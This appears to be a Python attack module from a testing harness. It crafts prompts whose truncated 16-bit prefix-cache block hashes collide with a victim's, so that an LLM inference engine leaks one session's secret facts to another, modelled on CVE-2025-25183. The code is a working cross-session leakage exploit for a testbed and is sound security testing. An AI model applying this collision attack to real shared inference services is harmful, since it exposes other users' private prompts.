"""Two prompts, one block name: the hash keeps 16 bits, and who knows how it is made finds collisions in a moment.

The attacker's block tells facts of its own; some of them are chosen so that the block's hash is that of a victim's.
The engine believes that the KV is there and answers from the victim's. The names need no secret, so all of this is
computed here, away from the engine, as in CVE-2025-25183 (vLLM before 0.7.2, whose hash of a chain started from a
constant).
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from itertools import zip_longest

from engine.block_hash import hash_block
from engine.config import EngineConfig
from engine.testbed.tasks import KEYS, VALUES
from engine.tokenizer import Tokenizer
from probe.replay.attacks.attack import TRIES, WAVE, Ask, Case, CaseAttack, Try, session
from probe.replay.attacks.facts import Fact, draw_facts, next_turn, question, told

BLOCK_SIZE = 16
FACTS = 5  # <bos> and five facts of three tokens are one block
HASH_BYTES = 2
VICTIMS_PER_CASE = 4
LAST_FACTS_PER_BASE = 2000  # last facts tried with the same first four


class Collision(CaseAttack):
    """Variant `collision`."""

    kind = "collision"

    def __init__(self) -> None:
        tokenizer = Tokenizer(EngineConfig().model_dir)
        # <bos>, key, value, ";": a fact is always these, so blocks can be made without the tokenizer.
        self._bos, first_key, first_value, semicolon = tokenizer.encode(f"{KEYS[0]}={VALUES[0]};")
        self._ids = {";": semicolon, KEYS[0]: first_key, VALUES[0]: first_value}
        for key, value in zip_longest(KEYS, VALUES, fillvalue=VALUES[0]):
            _, key_id, value_id, _ = tokenizer.encode(f"{key}={value};")
            self._ids |= {key: key_id, value: value_id}
        self._last_facts = [(key, value) for key in KEYS for value in VALUES]

    def flags(self) -> list[str]:
        """A hash of 16 bits."""
        return ["--prefix-caching-hash-algo", "unsafe_truncated"]

    def cases(self, count: int, rng: random.Random) -> list[Case]:
        """Pairs whose first blocks have the same 16 bits; what collides is sent by TRIES sessions."""
        made: list[Case] = []
        while len(made) < count:
            key = rng.choice(KEYS)
            for victim, attacker in self._collisions(rng, key, min(WAVE, count - len(made))):
                made.append(_case(str(len(made)), key, victim, attacker))
        return made

    def tell(self, case: Case, right: str, answer: str) -> str:
        """What the attacker got."""
        if answer != case.secret:
            return f"Session B had told {right} and got {answer}, computed from Session A's text."
        return (
            f"Session B had told the assistant {right} and asked for it. It got {answer}: what Session A, of whom it "
            f"knows nothing, had told under the same name."
        )

    def _collisions(self, rng: random.Random, key: str, count: int) -> list[tuple[list[Fact], list[Fact]]]:
        """`count` pairs of a victim's facts and an attacker's: both tell `key`, with different values.

        There are more victims than are needed, and any of them will do: one is met every few hundred tries.
        """
        drawn = [draw_facts(rng, FACTS, (key, rng.choice(VALUES))) for _ in range(VICTIMS_PER_CASE * count)]
        victims = {self.name_of(facts): facts for facts in drawn}
        found: list[tuple[list[Fact], list[Fact]]] = []
        while True:
            base = draw_facts(rng, FACTS - 1, (key, rng.choice(VALUES)))
            right = dict(base)[key]
            start = [self._bos, *self._tokens(base)]
            for last in rng.sample(self._last_facts, LAST_FACTS_PER_BASE):
                name = self._name([*start, *self._tokens([last])])
                if name not in victims or dict(victims[name])[key] == right or last[0] in dict(base):
                    continue
                found.append((victims.pop(name), [*base, last]))
                if len(found) == count:
                    return found

    def name_of(self, facts: Sequence[Fact]) -> bytes:
        """The name of the block that <bos> and five facts fill."""
        return self._name([self._bos, *self._tokens(facts)])

    def _tokens(self, facts: Sequence[Fact]) -> list[int]:
        return [self._ids[part] for fact in facts for part in (*fact, ";")]

    @staticmethod
    def _name(token_ids: Sequence[int]) -> bytes:
        """A block's name as the engine makes it."""
        return hash_block(None, token_ids)[:HASH_BYTES]


def _case(name: str, key: str, victim: list[Fact], attacker: list[Fact]) -> Case:
    secret, right = dict(victim)[key], dict(attacker)[key]
    asked, text = told(victim) + question(key), told(attacker) + question(key)
    caller = session(f"a{name}")
    follow_up = next_turn(asked, secret, next(k for k, _ in victim if k != key))
    return Case(
        victim=Ask(asked, asked, caller),
        tries=tuple(Try(Ask(text, text, session(f"b{name}-{i}")), right) for i in range(TRIES)),
        follow_up=Ask(follow_up, follow_up, caller),
        secret=secret,
    )
